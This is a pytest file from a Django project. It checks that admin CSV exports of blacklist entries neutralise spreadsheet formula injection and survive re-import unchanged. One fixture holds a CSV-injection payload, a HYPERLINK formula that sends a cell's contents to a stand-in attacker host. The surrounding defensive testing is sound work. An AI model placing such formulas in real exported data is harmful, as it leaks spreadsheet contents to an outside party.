"""Issue 12 item 7: CSV files the admin writes neutralise spreadsheet formulas (OWASP), and
importing them gives back the same values."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from core.csv_cells import FORMULA_TRIGGERS, csv_lines, neutralise_cell, restore_cell
from risk.models import BlacklistEntry
from tests.risk.helpers import listed

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
EXPORT = reverse("admin:risk_blacklistentry_export")


def _export(client) -> str:  # type: ignore[no-untyped-def]
    response = client.get(EXPORT)
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_formula_cells_are_exported_as_text_and_imported_unchanged(admin_op, tmp_path) -> None:
    # (a leading tab or CR is trimmed by the entry service itself; the property test covers them)
    reasons = [HYPERLINK, "+1 555 0100", "-2+3", "@SUM(A1:A9)", "'=already quoted"]
    for n, reason in enumerate(reasons):
        listed("last_name", f"Name{chr(65 + n)}", match="normalized", reason=reason)
    text = _export(admin_op)

    cells = [row["reason"] for row in csv.DictReader(io.StringIO(text))]
    assert sorted(cells) == sorted(["'" + r for r in reasons])
    assert not any(cell[:1] in FORMULA_TRIGGERS for cell in cells)

    # re-import into an empty list: the same values come back
    BlacklistEntry.objects.all().delete()
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    out = io.StringIO()
    call_command("import_blacklist", str(path), "--no-progress", stdout=out)
    assert out.getvalue().splitlines()[-1] == f"{len(reasons)} added, 0 skipped, 0 rejected"
    assert sorted(BlacklistEntry.objects.values_list("reason", flat=True)) == sorted(reasons)


def test_plain_cells_are_written_as_they_are() -> None:
    lines = list(csv_lines(["a", "b"], [["ada@example.com", 30], ["'quoted", ""]]))
    assert lines == ["a,b\r\n", "ada@example.com,30\r\n", "'quoted,\r\n"]


@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'ab ,\"")), max_size=8))
def test_neutralise_then_restore_is_the_identity(value: str) -> None:
    written = neutralise_cell(value)
    assert written[:1] not in FORMULA_TRIGGERS
    assert restore_cell(written) == value
